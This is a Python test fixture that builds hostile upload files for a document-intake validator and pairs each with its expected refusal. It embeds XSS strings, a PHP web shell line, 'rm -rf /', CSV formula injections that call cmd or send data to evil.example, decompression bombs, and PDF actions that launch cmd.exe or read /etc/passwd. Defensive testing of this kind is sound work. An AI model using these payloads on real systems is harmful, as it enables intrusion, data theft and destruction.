"""Files that somebody sends to do harm, or that lie about themselves. Each with the refusal that is expected."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from attache.kernel.intake import refusals
from attache.kernel.intake.refusals import NotTaken
from tests.kernel import hostile_office, samples
from tests.kernel.samples import SOUND, box, element, mp4, mvhd, pdf, picture, track, webm

MEGABYTE = 1024 * 1024
PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
JAR = samples.archive({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
GIF = picture("GIF")
EXE = b"MZ\x90\0" + bytes(200) + b"This program cannot be run in DOS mode"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HEIC = box(b"ftyp", b"heic", bytes(4), b"mif1heic") + box(b"meta", bytes(40))
ELF = b"\x7fELF" + bytes(200)


@dataclass(frozen=True)
class Hostile:
    """One file: what it tries, its name, its bytes and how it has to be refused."""

    tries: str
    name: str
    data: bytes
    refusal: type[NotTaken]


def corpus() -> list[Hostile]:
    """All of them."""
    makers: list[Callable[[], Iterator[Hostile]]] = [
        _empty_and_cut,
        _kinds,
        _liars,
        _polyglots,
        _large_pictures,
        _broken_pictures,
        _pdfs,
        _more_pdfs,
        _texts,
        _captions,
        _films,
        _films_of_matroska,
    ]
    office = [Hostile(*one) for one in hostile_office.corpus()]
    return [one for maker in makers for one in maker()] + office


def _empty_and_cut() -> Iterator[Hostile]:
    for name in SOUND:
        yield Hostile("0 bytes", name, b"", refusals.Empty)
    for name in ("photo.jpg", "drawing.png", "poster.webp", "minutes.docx", "text.odt", "appeal.mp4", "appeal.webm"):
        yield Hostile("cut in the middle", name, SOUND[name][: len(SOUND[name]) // 2], refusals.Damaged)
    yield Hostile("only the first bytes", "photo.jpg", b"\xff\xd8\xff", refusals.Damaged)
    yield Hostile("only the first bytes", "drawing.png", b"\x89PNG\r\n\x1a\n", refusals.Damaged)
    yield Hostile("only the first bytes", "memo.pdf", b"%PDF-1.7\n", refusals.Damaged)
    yield Hostile("only the first bytes", "minutes.docx", b"PK\x03\x04", refusals.Damaged)
    yield Hostile("zeros", "photo.jpg", bytes(4000), refusals.OtherInside)
    yield Hostile("zeros", "note.txt", bytes(4000), refusals.OtherInside)


def _kinds() -> Iterator[Hostile]:
    endings = (
        "svg svgz gif bmp tif ico html htm xhtml xml js php exe dll scr bat cmd ps1 sh py jar apk zip rar 7z gz tar"
    )
    endings += " iso swf psd eps mov avi mkv mp3 m4a wav lnk url eml msg vbs hta mht json"
    for ending in endings.split():
        yield Hostile("a kind that is never taken", f"file.{ending}", SVG, refusals.WrongKind)
    for name in (
        "photo",
        ".jpg",
        "photo.",
        "photo.jpg.exe",
        "photo.jpg\u202egnp.scr",
        "photo.jpg/x",
        "photo.jpg\0.exe",
    ):
        yield Hostile("a name without its ending, or with two", name, SOUND["photo.jpg"], refusals.WrongKind)
    for ending in ("docm", "xlsm", "pptm", "dotm", "xlsb"):
        yield Hostile("a kind that can hold macros", f"file.{ending}", SVG, refusals.WithMacros)
    for ending in ("doc", "xls", "ppt", "rtf"):
        yield Hostile("an old office document", f"minutes.{ending}", OLE, refusals.OldFormat)
    for name in ("IMG_1.heic", "IMG_1.HEIF", "IMG_1.jpg"):
        yield Hostile("the phone's own format", name, HEIC, refusals.PhoneFormat)


def _liars() -> Iterator[Hostile]:
    contents = {"a page": PAGE, "SVG": SVG, "a GIF": GIF, "a program": EXE, "another program": ELF, "a JAR": JAR}
    for told, data in contents.items():
        for name in ("photo.jpg", "drawing.png", "memo.pdf", "appeal.mp4", "appeal.webm"):
            yield Hostile(f"{told} under the name of {name}", name, data, refusals.OtherInside)
    for told in ("a page", "SVG", "a program", "another program"):
        yield Hostile(f"{told} as a document", "minutes.docx", contents[told], refusals.OtherInside)
    yield Hostile("a JAR as a document", "minutes.docx", JAR, refusals.OtherInside)
    yield Hostile("an old document renamed", "minutes.docx", OLE, refusals.OtherInside)
    yield Hostile("a PDF as a picture", "photo.jpg", SOUND["memo.pdf"], refusals.OtherInside)
    yield Hostile("a picture as a PDF", "memo.pdf", SOUND["photo.jpg"], refusals.OtherInside)
    yield Hostile("a WebM as an MP4", "appeal.mp4", SOUND["appeal.webm"], refusals.OtherInside)
    yield Hostile("an MP4 as a WebM", "appeal.webm", SOUND["appeal.mp4"], refusals.OtherInside)


def _polyglots() -> Iterator[Hostile]:
    """Two files in one: each a sound picture or PDF, and something else for whoever looks from the other end."""
    for name in ("photo.jpg", "drawing.png", "poster.webp"):
        for told, tail in {"JAR": JAR, "page": PAGE, "PHP": b"<?php system($_GET['c']); ?>", "SVG": SVG}.items():
            yield Hostile(f"{name} + {told}", name, SOUND[name] + tail, refusals.TwoInOne)
    yield Hostile("GIFAR under another name", "photo.jpg", GIF + JAR, refusals.OtherInside)
    yield Hostile("PDF + ZIP", "memo.pdf", SOUND["memo.pdf"] + JAR, refusals.TwoInOne)
    yield Hostile("PDF + page", "memo.pdf", SOUND["memo.pdf"] + PAGE, refusals.TwoInOne)
    yield Hostile("page + PDF", "memo.pdf", PAGE + SOUND["memo.pdf"], refusals.OtherInside)
    yield Hostile("a page in a JPEG's comment", "photo.jpg", picture(comment=PAGE), refusals.TwoInOne)
    yield Hostile("a PDF in a JPEG's comment", "photo.jpg", picture(comment=b"%PDF-1.7 1 0 obj"), refusals.TwoInOne)
    text = _png(_chunk(b"tEXt", b"Comment\0" + PAGE))
    yield Hostile("a page in a PNG's text", "drawing.png", text, refusals.TwoInOne)
    for name in ("minutes.docx", "text.odt"):
        yield Hostile(f"page + {name}", name, PAGE + SOUND[name], refusals.OtherInside)
        yield Hostile(f"{name} + page", name, SOUND[name] + PAGE, refusals.TwoInOne)
    shifted = io.BytesIO(SOUND["minutes.docx"])
    with zipfile.ZipFile(shifted, "a") as zipped:
        zipped.comment = PAGE
    yield Hostile("a page in a document's comment", "minutes.docx", shifted.getvalue(), refusals.TwoInOne)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(*more: bytes, size: tuple[int, int] = (1, 1), pixels: bytes | None = None) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0))
    data = zlib.compress(b"\0\0") if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _large_pictures() -> Iterator[Hostile]:
    for size in ((60_000, 60_000), (100_000, 100_000), (2_000_000, 30), (30, 2_000_000), (8000, 7000), (2**31 - 1, 1)):
        yield Hostile(f"a PNG that says {size}", "drawing.png", _png(size=size), refusals.TooManyPixels)
    bomb = zlib.compress(bytes(60_000 * 1001), 9)
    yield Hostile("a PNG bomb", "drawing.png", _png(size=(60_000, 1000), pixels=bomb), refusals.TooManyPixels)
    wide = bytearray(picture(size=(64, 64)))
    at = wide.index(b"\xff\xc0") + 5
    wide[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
    yield Hostile("a JPEG that says 65,000 x 65,000", "photo.jpg", bytes(wide), refusals.TooManyPixels)
    webp = bytearray(picture("WEBP", size=(64, 64), lossless=True))
    at = webp.index(b"VP8L") + 9
    webp[at : at + 4] = (0xFFFFFFF).to_bytes(4, "little")
    yield Hostile("a WebP that says 16,384 x 16,384", "poster.webp", bytes(webp), refusals.TooManyPixels)
    scan = b"\xff\xda\0\x08\x01\x01\0\0\x3f\0"
    slow = picture(size=(64, 64), progressive=True)[:-2] + scan * 500 + b"\xff\xd9"
    yield Hostile("a JPEG that is decoded 500 times", "photo.jpg", slow, refusals.TooMuchInside)
    for name in ("photo.jpg", "memo.pdf", "minutes.docx", "note.txt", "appeal.vtt"):
        heavy = SOUND[name] + bytes(51 * MEGABYTE)
        yield Hostile("more bytes than are read", name, heavy, refusals.TooLarge)


def _broken_pictures() -> Iterator[Hostile]:
    text = _chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(80 * MEGABYTE), 9))
    yield Hostile("a bomb in a PNG's text", "drawing.png", _png(text), refusals.Damaged)
    profile = _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(80 * MEGABYTE), 9))
    yield Hostile("a bomb in a PNG's profile", "drawing.png", _png(profile), refusals.Damaged)
    yield Hostile("no pixels", "drawing.png", _png(size=(50, 50)), refusals.Damaged)
    yield Hostile("0 x 0", "drawing.png", _png(size=(0, 0)), refusals.Damaged)
    yield Hostile("pixels that are none", "drawing.png", _png(size=(50, 50), pixels=b"no zlib"), refusals.Damaged)
    wrong = bytearray(SOUND["drawing.png"])
    wrong[29] ^= 0xFF
    yield Hostile("a wrong sum", "drawing.png", bytes(wrong), refusals.Damaged)
    yield Hostile("no end", "drawing.png", _png()[:-12], refusals.Damaged)
    yield Hostile("RIFF that is sound", "poster.webp", b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), refusals.OtherInside)


def _with_root(**entries: object) -> bytes:
    return pdf(lambda made: made.Root.update({f"/{key}": value for key, value in entries.items()}))


def _act(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _pdfs() -> Iterator[Hostile]:
    actions = {
        "script": _act("JavaScript", JS=String("app.alert(1)")),
        "launch": _act("Launch", F=String("cmd.exe")),
        "form to elsewhere": _act("SubmitForm", F=String("https://evil.example/")),
        "data from elsewhere": _act("ImportData", F=String("x.fdf")),
        "another file": _act("GoToR", F=String("\\\\evil.example\\share"), D=Array([0])),
        "an attached file": _act("GoToE", D=Array([0])),
        "a film": _act("Rendition", OP=0),
        "a link to a script": _act("URI", URI=String("javascript:alert(1)")),
        "a link to a file": _act("URI", URI=String("file:///etc/passwd")),
        "one after another": _act("Named", N=Name.NextPage, Next=_act("JavaScript", JS=String("x"))),
    }
    for told, action in actions.items():
        yield Hostile(f"PDF that opens with {told}", "memo.pdf", _with_root(OpenAction=action), refusals.Active)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        on_page = pdf(lambda made, link=link: made.pages[0].obj.update({"/Annots": Array([made.make_indirect(link)])}))
        yield Hostile(f"PDF with a link: {told}", "memo.pdf", on_page, refusals.Active)


def _more_pdfs() -> Iterator[Hostile]:
    script = _act("JavaScript", JS=String("app.alert(1)"))
    yield Hostile(
        "PDF with scripts by name", "memo.pdf", _with_root(Names=Dictionary(JavaScript=Dictionary())), refusals.Active
    )
    yield Hostile("PDF that acts on closing", "memo.pdf", _with_root(AA=Dictionary(WC=script)), refusals.Active)
    yield Hostile(
        "PDF with an XFA form", "memo.pdf", _with_root(AcroForm=Dictionary(XFA=String("<x/>"))), refusals.Active
    )
    hidden = {"/Names": Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))}
    yield Hostile("PDF with files in it", "memo.pdf", pdf(lambda made: made.Root.update(hidden)), refusals.Active)
    yield Hostile("PDF with an attached file", "memo.pdf", pdf(_attach), refusals.Active)
    for kind in ("RichMedia", "Movie", "Sound", "Screen", "3D", "FileAttachment"):
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
        yield Hostile(
            f"PDF with {kind}",
            "memo.pdf",
            pdf(lambda made, note=note: made.pages[0].obj.update({"/Annots": Array([note])})),
            refusals.Active,
        )
    packed = pdf(
        lambda made: made.Root.update({"/OpenAction": script}),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    yield Hostile("PDF with a packed script", "memo.pdf", packed, refusals.Active)
    escaped = _with_root(OpenAction=script).replace(b"/JavaScript", b"/J#61vaScript")
    yield Hostile("PDF with a script's name in disguise", "memo.pdf", escaped, refusals.Active)
    for user, owner in (("secret", "x"), ("", "secret")):
        locked = pdf(encryption=pikepdf.Encryption(user=user, owner=owner))
        yield Hostile("PDF with a password", "memo.pdf", locked, refusals.Locked)
    yield Hostile("PDF without pages", "memo.pdf", pdf(lambda made: made.pages.__delitem__(0)), refusals.Damaged)
    yield Hostile("PDF of nonsense", "memo.pdf", b"%PDF-1.7\n" + b"\xde\xad\xbe\xef" * 500, refusals.Damaged)
    yield Hostile("PDF with a bomb", "memo.pdf", _pdf_bomb(), refusals.Damaged)


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = EXE


def _pdf_bomb() -> bytes:
    """The list of objects lies in a stream that unpacks to 200 MB."""
    packed = zlib.compress(bytes(200 * MEGABYTE), 9)
    head = f"1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    return b"%PDF-1.5\n" + head.encode() + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def _texts() -> Iterator[Hostile]:
    for told, data in {
        "a page": PAGE,
        "SVG": SVG,
        "a program": EXE[:2] + b"...",
        "a shell's script": b"#!/bin/sh\nrm -rf /",
    }.items():
        yield Hostile(f"{told} as a text", "note.txt", data, refusals.Active)
        yield Hostile(f"{told} as a table", "list.csv", data, refusals.Active)
    yield Hostile("a page behind a greeting", "note.txt", b"Hello!\n" + PAGE, refusals.Active)
    yield Hostile(
        "a page in UTF-16",
        "note.txt",
        "\ufeff".encode("utf-16-le") + PAGE.decode().encode("utf-16-le"),
        refusals.Active,
    )
    for cell in (
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '"=HYPERLINK(""https://evil.example/?""&A1)"',
        "+HYPERLINK(1)",
    ):
        yield Hostile(f"a formula: {cell}", "list.csv", f"name,phone\nLu,{cell}\n".encode(), refusals.Active)
    yield Hostile("a quotation that never ends", "list.csv", b'name\n"' + b"x" * 200_000, refusals.BrokenTable)
    yield Hostile("bytes of no language", "note.txt", bytes(range(128, 256)) * 9, refusals.UnknownEncoding)
    yield Hostile("half of UTF-16", "note.txt", b"\xff\xfe\x00", refusals.Damaged)
    yield Hostile("a terminal's commands", "note.txt", b"\x1b]0;evil\x07\x1b[2J", refusals.OtherInside)


def _captions() -> Iterator[Hostile]:
    def cue(words: str, timing: str = "00:01.000 --> 00:02.000") -> bytes:
        return f"WEBVTT\n\n{timing}\n{words}\n".encode()

    for words in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b onclick=x>!</b>",
        "<i",
        "a --> b",
        "<b></i>",
        "<v>no name</v>",
        "<00:00:01.500>sung",
        "bell \x07",
        "<c.red onload=x>!</c>",
    ):
        yield Hostile(f"captions with {words}", "appeal.vtt", cue(words), refusals.CaptionsWrong)
    for timing in (
        "00:02.000 --> 00:01.000",
        "00:01.000 -> 00:02.000",
        "00:61.000 --> 00:62.000",
        "1 --> 2",
        "00:01.000 --> 00:02.000 region:x",
        "00:01.000 --> 00:02.000 line:url(x)",
        "00:01.000 --> 00:02.000 align:start align:end",
    ):
        yield Hostile(f"captions timed {timing}", "appeal.vtt", cue("Hello", timing), refusals.CaptionsWrong)
    whole = {
        "SubRip": b"1\n00:00:01,000 --> 00:00:02,000\nHello\n",
        "a page": PAGE,
        "nothing": b"WEBVTT\n",
        "no words": b"WEBVTT\n\n00:01.000 --> 00:02.000\n",
        "times in a note": b"WEBVTT\n\nNOTE\n00:01.000 --> 00:02.000\nHi\n",
        "a name alone": b"WEBVTT\n\nHello\n",
    }
    for told, data in whole.items():
        yield Hostile(f"captions that are {told}", "appeal.vtt", data, refusals.CaptionsWrong)
    yield Hostile("captions in Windows-1251", "appeal.vtt", "WEBVTT\n\nДрузья".encode("cp1251"), refusals.OtherInside)


def _films() -> Iterator[Hostile]:
    sound = mp4()
    lies = {
        "a box larger than the file": mp4(end=struct.pack(">I4s", 10**9, b"free")),
        "a box of 64 bits beyond the file": mp4(end=struct.pack(">I4sQ", 1, b"free", 2**63)),
        "a box smaller than its head": mp4(end=struct.pack(">I4s", 4, b"free")),
        "half a size of 64 bits": mp4(end=struct.pack(">I4s", 1, b"free")),
        "half a head": mp4(end=b"\0\0\0"),
        "an inner box without an end": mp4(mvhd(), track(), struct.pack(">I4s", 0, b"trak")),
        "an inner box that is larger than the outer": mp4(mvhd(), track(), struct.pack(">I4s", 999, b"trak")),
        "an unknown box": mp4(end=box(b"EVIL", PAGE)),
        "a page behind it": mp4(end=PAGE),
        "a JAR behind it": mp4(end=JAR),
        "no track": mp4(mvhd()),
        "no head": mp4(track()),
        "no film": samples.ftyp() + box(b"mdat", b"x"),
        "no pictures": sound[: sound.index(b"mdat") - 4],
        "two beginnings": mp4(end=samples.ftyp()),
        "sound alone": mp4(mvhd(), track(box(b"mp4a", bytes(90)))),
        "another brand": mp4(begin=samples.ftyp(b"qt  ").replace(b"mp41", b"qt  ")),
        "a size of nothing": mp4(mvhd(), track(samples.coding(size=(0, 0)))),
        "a size of a wall": mp4(mvhd(), track(samples.coding(size=(60_000, 60_000)))),
        "a head cut short": mp4(box(b"mvhd", bytes(10)), track()),
    }
    for told, data in lies.items():
        yield Hostile(f"MP4 with {told}", "appeal.mp4", data, refusals.Damaged)
    for kind in (b"hvc1", b"hev1", b"mp4v", b"encv", b"jpeg"):
        data = mp4(mvhd(), track(samples.coding(kind)))
        yield Hostile(f"MP4 coded as {kind!r}", "appeal.mp4", data, refusals.VideoFormat)
    fetched = mp4(mvhd(), track(reference=0))
    yield Hostile("MP4 that fetches its pictures", "appeal.mp4", fetched, refusals.Active)


def _films_of_matroska() -> Iterator[Hostile]:
    sound = webm()
    lies = {
        "an element beyond the file": sound + b"\xec\x01" + b"\0\xff" * 4,
        "two segments": sound + sound[sound.index(b"\x18\x53\x80\x67") :],
        "a page behind it": sound + PAGE,
        "no tracks": webm(tracks=b""),
        "Matroska": webm(doctype=b"matroska"),
        "an unknown element": webm(element(0x1A45DFA4, PAGE)),
        "an element left open": webm(element(0x1C53BB6B, b"", open_ended=True)),
        "a size of nothing": webm(tracks=samples.webm_track(size=(0, 0))),
        "a size of a wall": webm(tracks=samples.webm_track(size=(60_000, 60_000))),
        "an impossible id": webm(b"\x01\x01\x01\x01\x80"),
        "an impossible size": webm(b"\xec\0\0"),
    }
    for told, data in lies.items():
        yield Hostile(f"WebM with {told}", "appeal.webm", data, refusals.Damaged)
    yield Hostile(
        "WebM coded as MPEG-4", "appeal.webm", webm(tracks=samples.webm_track(b"V_MPEG4/ISO/AVC")), refusals.VideoFormat
    )
    yield Hostile("WebM that carries a file", "appeal.webm", webm(element(0x1941A469, EXE)), refusals.Active)
